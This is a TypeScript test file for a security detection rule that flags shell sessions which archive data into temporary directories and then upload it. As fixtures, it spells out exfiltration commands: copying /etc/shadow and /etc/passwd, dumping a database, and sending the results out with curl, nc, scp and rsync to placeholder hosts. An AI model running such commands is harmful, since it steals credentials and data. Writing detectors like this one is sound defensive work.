import { afterEach, describe, expect, it, vi } from 'vitest';
import { stagingThenTransferLifter } from './staging-then-transfer.ts';
import { commandEvent, replay, sessionEvent, shippedRule } from './test-harness.ts';

// R3103: staged in /tmp, /var/tmp or /dev/shm, then sent out; command events correlated for 30 minutes.
const r3103 = (overrides: Record<string, unknown> = {}) => shippedRule(stagingThenTransferLifter, 'R3103', overrides);

afterEach(() => {
  vi.useRealTimers();
});

describe('session-lifter/staging-then-transfer', () => {
  it('fires on a session that archives into /tmp and then uploads the archive', async () => {
    const session = sessionEvent({
      minute: 0,
      commands: ['uname -a', 'cd /tmp', 'tar czf .l.tgz /home /etc/passwd', 'curl -F "f=@.l.tgz" http://198.51.100.2/u', 'rm .l.tgz'],
    });
    expect(await replay(stagingThenTransferLifter, [r3103()], [session])).toEqual([
      {
        sourceId: session.sourceId,
        ruleId: 'R3103',
        evidence: {
          sessionId: 'session-1',
          stagedPath: '/tmp/.l.tgz',
          stagingCommand: 'tar czf .l.tgz /home /etc/passwd',
          stagedAt: '2025-03-01T12:00:00.000Z',
          stagingSourceId: session.sourceId,
          transferCommand: 'curl -F "f=@.l.tgz" http://198.51.100.2/u',
          tool: 'curl',
          destination: '198.51.100.2',
          transferSendsStagedPath: true,
        },
      },
    ]);
  });

  it('does not fire when the transfer comes before the staging', async () => {
    const session = sessionEvent({ minute: 0, commands: ['scp /tmp/l.tgz me@203.0.113.5:', 'tar czf /tmp/l.tgz /etc'] });
    expect(await replay(stagingThenTransferLifter, [r3103()], [session])).toEqual([]);
  });

  it('does not fire for staging alone, or for a transfer of something that was not staged', async () => {
    const events = [
      sessionEvent({ minute: 0, commands: ['tar czf /tmp/backup.tgz /var/www', 'ls -la /tmp'] }),
      sessionEvent({ minute: 1, sessionId: 's2', commands: ['tar czf /tmp/a.tgz /etc', 'scp /root/notes.txt me@203.0.113.5:'] }),
    ];
    expect(await replay(stagingThenTransferLifter, [r3103()], events)).toEqual([]);
  });

  it('accepts any transfer after staging, at lower confidence, when require_file_reference is false', async () => {
    const session = sessionEvent({ minute: 0, commands: ['tar czf /tmp/a.tgz /etc', 'scp /root/notes.txt me@203.0.113.5:'] });
    const fired = await replay(stagingThenTransferLifter, [r3103({ require_file_reference: false })], [session]);
    expect(fired).toHaveLength(1);
    expect(fired[0]).toMatchObject({ confidence: 0.5, evidence: { stagedPath: '/tmp/a.tgz', transferSendsStagedPath: false, tool: 'scp' } });
  });

  it('correlates command events of one session and fires once on the transfer', async () => {
    const events = [
      commandEvent({ minute: 0, text: 'cp /etc/shadow /dev/shm/' }),
      commandEvent({ minute: 2, text: 'ls /dev/shm' }),
      commandEvent({ minute: 5, text: 'cat shadow | nc 198.51.100.2 4444', cwd: '/dev/shm' }),
      commandEvent({ minute: 6, text: 'cat shadow | nc 198.51.100.2 4444', cwd: '/dev/shm' }),
    ];
    const fired = await replay(stagingThenTransferLifter, [r3103()], events);
    expect(fired).toHaveLength(1);
    expect(fired[0]).toMatchObject({
      sourceId: events[2]?.sourceId,
      evidence: { stagedPath: '/dev/shm/shadow', stagingSourceId: events[0]?.sourceId, stagedAt: '2025-03-01T12:00:00.000Z', tool: 'nc', destination: '198.51.100.2:4444' },
    });
  });

  it('keeps sessions apart and ignores command events without a session', async () => {
    const events = [
      commandEvent({ minute: 0, sessionId: 'a', text: 'tar czf /tmp/l.tgz /etc' }),
      commandEvent({ minute: 1, sessionId: 'b', text: 'scp /tmp/l.tgz me@203.0.113.5:' }),
      commandEvent({ minute: 2, sessionId: null, text: 'tar czf /tmp/m.tgz /etc && scp /tmp/m.tgz me@203.0.113.5:' }),
    ];
    expect(await replay(stagingThenTransferLifter, [r3103()], events)).toEqual([]);
  });

  it('does not fire when the transfer comes after the window', async () => {
    const events = [commandEvent({ minute: 0, text: 'tar czf /tmp/l.tgz /etc' }), commandEvent({ minute: 45, text: 'scp /tmp/l.tgz me@203.0.113.5:' })];
    expect(await replay(stagingThenTransferLifter, [r3103()], events)).toEqual([]);
  });

  it('does not pair a transfer with staging whose event time is later', async () => {
    const events = [commandEvent({ minute: 10, text: 'tar czf /tmp/l.tgz /etc' }), commandEvent({ minute: 5, text: 'scp /tmp/l.tgz me@203.0.113.5:' })];
    expect(await replay(stagingThenTransferLifter, [r3103()], events)).toEqual([]);
  });

  it('honours staging_dirs from the rule', async () => {
    const session = sessionEvent({ minute: 0, commands: ['tar czf /srv/drop/l.tgz /etc', 'scp /srv/drop/l.tgz me@203.0.113.5:'] });
    expect(await replay(stagingThenTransferLifter, [r3103()], [session])).toEqual([]);
    expect(await replay(stagingThenTransferLifter, [r3103({ staging_dirs: ['/srv/drop/'] })], [session])).toHaveLength(1);
  });

  it('gives the same findings when the same events are replayed at a different wall-clock pace', async () => {
    const events = [
      commandEvent({ minute: 0, text: 'mysqldump shop > /tmp/db.sql' }),
      commandEvent({ minute: 3, text: 'curl --data-binary @/tmp/db.sql https://drop.example/u' }),
      sessionEvent({ minute: 4, sessionId: 's9', commands: ['zip -r /var/tmp/w.zip /var/www', 'rsync /var/tmp/w.zip drop.example:'] }),
    ];
    const fast = await replay(stagingThenTransferLifter, [r3103()], events);
    vi.useFakeTimers();
    vi.setSystemTime(new Date('2040-02-29T23:59:59Z'));
    const slow = await replay(stagingThenTransferLifter, [r3103()], events, () => vi.advanceTimersByTime(90 * 60_000));
    expect(fast).toHaveLength(2);
    expect(slow).toEqual(fast);
  });
});
